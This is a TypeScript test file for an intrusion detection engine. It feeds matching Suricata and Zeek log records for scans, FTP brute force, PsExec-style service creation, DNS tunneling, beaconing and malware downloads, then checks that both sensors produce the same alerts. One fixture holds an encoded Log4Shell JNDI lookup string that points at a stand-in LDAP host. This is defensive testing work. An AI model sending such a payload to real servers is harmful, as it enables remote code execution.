import { expect, test } from 'vitest'
import type { Alert } from '#engine/alert.ts'
import type { SensorEvent } from '#engine/event.ts'
import { detector, finalAlerts } from '#test/support/detect.ts'
import { each, KIOSK, MINUTE, MORNING, SECOND, SERVER, STRANGER } from '#test/support/events.ts'
import { hex, madeUp } from '#test/support/names.ts'
import { read } from '#test/support/read-lines.ts'
import { eve, eveFlow, type Fate, type Seen, zeek, zeekFlow } from '#test/support/sensor-lines.ts'

/** The same traffic as two sensors would write it; what an analyst hears must be the same. */
interface Traffic {
  eve: string[]
  zeek: string[]
}

const seen = (changes: Partial<Seen>): Seen => ({
  at: 0,
  source: STRANGER,
  sourcePort: 40_000,
  target: SERVER,
  targetPort: 21,
  id: 0,
  ...changes,
})
const both = (moments: Seen[], one: (seen: Seen) => string, other: (seen: Seen) => string): Traffic => ({
  eve: moments.map(one),
  zeek: moments.map(other),
})
const knocks = (fate: Fate, changes: Partial<Seen> = {}): Traffic => {
  const moments = each(15, SECOND, (at, place) => seen({ at, id: place, targetPort: place + 20, ...changes }))
  return both(
    moments,
    (moment) => eveFlow(moment, fate),
    (moment) => zeekFlow(moment, fate),
  )
}
const tries = (results: boolean[]): Traffic => {
  const moments = each(results.length, 5 * SECOND, (at, place) => seen({ at, id: place, source: KIOSK }))
  const row = (place: number) => ({
    eve: { command: 'PASS', completion_code: [results[place] ? '230' : '530'] },
    zeek: { command: 'PASS', reply_code: results[place] ? 230 : 530, user: '<unknown>' },
  })
  return both(
    moments,
    (moment) => eve('ftp', moment, { ftp: row(moment.id).eve }),
    (moment) => zeek('ftp', moment, row(moment.id).zeek),
  )
}
/** Suricata tells the name and the password in a row each, Zeek both in one. */
const entries = (user: string): Traffic => {
  const moment = seen({ at: MORNING, source: KIOSK })
  return {
    eve: [
      eve('ftp', moment, { tx_id: 0, ftp: { command: 'USER', command_data: user, completion_code: ['331'] } }),
      eve('ftp', moment, { tx_id: 1, ftp: { command: 'PASS', completion_code: ['230'] } }),
    ],
    zeek: [zeek('ftp', moment, { command: 'PASS', reply_code: 230, user })],
  }
}
/** A share, a program on it, and a service that starts it. */
const takeover = (): Traffic => {
  const moment = seen({ at: MORNING, source: KIOSK, targetPort: 445 })
  return {
    eve: [
      { command: 'SMB2_COMMAND_TREE_CONNECT', status: 'STATUS_SUCCESS', share: '\\\\server\\ADMIN$' },
      {
        command: 'SMB2_COMMAND_CREATE',
        status: 'STATUS_SUCCESS',
        disposition: 'FILE_OVERWRITE_IF',
        filename: 'PSEXESVC.exe',
      },
      {
        command: 'SMB2_COMMAND_WRITE',
        dcerpc: { request: 'BIND', interfaces: [{ uuid: '367abb81-9844-35f1-ad32-98f038001003' }] },
      },
      { command: 'SMB2_COMMAND_IOCTL', dcerpc: { request: 'REQUEST', opnum: 12 } },
    ].map((smb, place) => eve('smb', moment, { tx_id: place, smb })),
    zeek: [
      zeek('smb_mapping', moment, { path: '\\\\server\\ADMIN$', share_type: 'DISK' }),
      zeek('smb_files', moment, { action: 'SMB::FILE_WRITE', path: '\\\\server\\ADMIN$', name: 'PSEXESVC.exe' }),
      zeek('dce_rpc', moment, { endpoint: 'svcctl', operation: 'CreateServiceW' }),
    ],
  }
}
const pages = (status: (place: number) => number, count: number): Traffic => {
  const moments = each(count, SECOND, (at, place) => seen({ at, id: place, targetPort: 80 }))
  return both(
    moments,
    (moment) =>
      eve('http', moment, {
        http: { hostname: 'camera.example.jp', url: '/login', http_method: 'GET', status: status(moment.id) },
      }),
    (moment) =>
      zeek('http', moment, { host: 'camera.example.jp', uri: '/login', method: 'GET', status_code: status(moment.id) }),
  )
}

const asked = (paths: string[]): Traffic => {
  const moments = each(paths.length, SECOND, (at, place) => seen({ at, id: place, targetPort: 80 }))
  const url = ({ id }: Seen) => paths[id]
  return both(
    moments,
    (moment) =>
      eve('http', moment, { http: { hostname: 'shop.example.jp', url: url(moment), http_method: 'GET', status: 404 } }),
    (moment) => zeek('http', moment, { host: 'shop.example.jp', uri: url(moment), method: 'GET', status_code: 404 }),
  )
}

/** A look-up that a server is told to make, and the call that obeys it. */
const lookedUp = (): Traffic => {
  const [at, text] = [MORNING, '/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D']
  const order = seen({ at, id: 1, targetPort: 80 })
  const call = seen({ at, id: 2, source: SERVER, target: '198.51.100.7', targetPort: 389 })
  return {
    eve: [
      eve('http', order, { http: { hostname: 'shop.example.jp', url: text, http_method: 'GET', status: 200 } }),
      eveFlow(call, 'answered'),
    ],
    zeek: [
      zeek('http', order, { host: 'shop.example.jp', uri: text, method: 'GET', status_code: 200 }),
      zeekFlow(call, 'answered'),
    ],
  }
}

const names = (name: (place: number) => string, count: number): Traffic => {
  const moments = each(count, SECOND, (at, place) => seen({ at, id: place, source: KIOSK, targetPort: 53 }))
  const row = ({ id }: Seen) => ({ rrname: name(id), rrtype: 'TXT' })
  return both(
    moments,
    (moment) => eve('dns', moment, { dns: { version: 2, type: 'query', ...row(moment) } }),
    (moment) => zeek('dns', moment, { query: name(moment.id), qtype_name: 'TXT' }),
  )
}

/** Names that nobody has. */
const missed = (name: (place: number) => string, count: number): Traffic => {
  const moments = each(count, SECOND, (at, place) => seen({ at, id: place, source: KIOSK, targetPort: 53 }))
  const row = ({ id }: Seen) => ({ rrname: name(id), rrtype: 'A', rcode: 'NXDOMAIN' })
  return both(
    moments,
    (moment) => eve('dns', moment, { dns: { version: 2, type: 'answer', ...row(moment) } }),
    (moment) => zeek('dns', moment, { query: name(moment.id), qtype_name: 'A', rcode_name: 'NXDOMAIN' }),
  )
}

/** A program that reports every ten minutes, all night. */
const reports = (): Traffic => {
  const moments = each(30, 10 * MINUTE, (at, place) =>
    seen({ at, id: place, source: KIOSK, target: STRANGER, targetPort: 4_444 }),
  )
  return both(
    moments,
    (moment) => eveFlow(moment, 'answered'),
    (moment) => zeekFlow(moment, 'answered'),
  )
}

const downloads = (): Traffic => {
  const moment = seen({ at: MORNING, source: KIOSK, target: STRANGER, targetPort: 80 })
  const agent = 'curl/8.5.0'
  return {
    eve: [
      eve('http', moment, {
        http: { hostname: STRANGER, url: '/a.exe', http_method: 'GET', status: 200, http_user_agent: agent },
      }),
    ],
    zeek: [zeek('http', moment, { host: STRANGER, uri: '/a.exe', method: 'GET', status_code: 200, user_agent: agent })],
  }
}

const inTheEnd = (events: readonly SensorEvent[]): Alert[] => {
  const running = detector()
  return finalAlerts([running.detect(events), running.finish()])
}

const gist = (lines: string[]): Partial<Alert>[] =>
  inTheEnd(read(lines.join('\n')).events).map(
    ({ id, kind, severity, source, target, count, reason, firstSeenAt, lastSeenAt }) => ({
      id,
      kind,
      severity,
      source,
      target,
      count,
      reason,
      firstSeenAt,
      lastSeenAt,
    }),
  )

test.each<[string, Traffic, string[]]>([
  ['a SYN scan of closed doors', knocks('refused'), ['port-scan']],
  ['a SYN scan of filtered doors', knocks('silent'), ['port-scan']],
  ['a FIN scan that nobody answers', knocks('fin-probe'), ['port-scan']],
  ['a FIN scan of closed doors', knocks('fin-refused'), ['port-scan']],
  ['a NULL scan of closed doors', knocks('null-refused'), ['port-scan']],
  ['an ACK scan', knocks('ack-refused'), ['port-scan']],
  ['open doors', knocks('answered'), []],
  ['backscatter', knocks('backscatter', { sourcePort: 443 }), []],
  [
    'the last words of a service to clients that have gone',
    both(
      each(15, SECOND, (at, place) => seen({ at, id: place, sourcePort: 443, targetPort: 50_000 + place })),
      (moment) => eveFlow(moment, 'late-fin'),
      (moment) => zeekFlow(moment, 'late-fin'),
    ),
    [],
  ],
  [
    'FTP passwords, one after the other',
    tries(Array(12).fill(false)),
    ['brute-force-failure', 'cleartext-credentials'],
  ],
  [
    'FTP passwords until one fits',
    tries([...Array(12).fill(false), true]),
    ['brute-force-failure', 'brute-force-success', 'cleartext-credentials'],
  ],
  ['one mistyped FTP password', tries([false, true]), ['cleartext-credentials']],
  ['an FTP password that anybody can read', entries('kenta'), ['cleartext-credentials']],
  ['a program put on another computer as a service', takeover(), ['abnormal-process', 'internal-file-transfer']],
  [
    'the administrator’s name for a share',
    (() => {
      const moment = seen({ at: MORNING, source: KIOSK, targetPort: 445 })
      const [command, status] = ['SMB2_COMMAND_SESSION_SETUP', 'STATUS_SUCCESS']
      return {
        eve: [eve('smb', moment, { smb: { command, status, ntlmssp: { user: 'Administrator' } } })],
        zeek: [zeek('ntlm', moment, { username: 'Administrator', success: true })],
      }
    })(),
    ['privileged-account'],
  ],
  ['a miner’s pool asked for', names(() => 'pool.supportxmr.com', 1), ['unwanted-software']],
  ['anonymous FTP', entries('anonymous'), []],
  ['a web page’s password', pages(() => 401, 40), ['brute-force-failure']],
  ['text records that carry data', names((place) => `${hex(place, 30)}.t.example.net`, 20), ['dns-tunneling']],
  ['text records of mail', names((place) => `_dmarc.kaisha${place}.example.net`, 20), []],
  ['a search for weak spots', asked(['/.env', '/.git/HEAD', '/xmlrpc.php', '/pma/', '/HNAP1/']), ['url-scan']],
  ['a look-up that a server was told to make', lookedUp(), ['abnormal-process']],
  ['made-up names that nobody has', missed((place) => `${madeUp(place)}.com`, 30), ['dga-c2']],
  ['mistyped names that nobody has', missed((place) => `kaisha${place % 3}.example.net`, 30), []],
  ['a program that reports by the clock', reports(), ['known-c2']],
  ['a program fetched from a bare address', downloads(), ['malware-download']],
  ['a camera that asks each time', pages((place) => (place % 2 === 0 ? 401 : 200), 200), []],
])('%s', (_name, traffic, kinds) => {
  const [suricata, zeeks] = [gist(traffic.eve), gist(traffic.zeek)]
  expect(suricata).toEqual(zeeks)
  expect(suricata.map(({ kind }) => kind).sort()).toEqual(kinds)
})
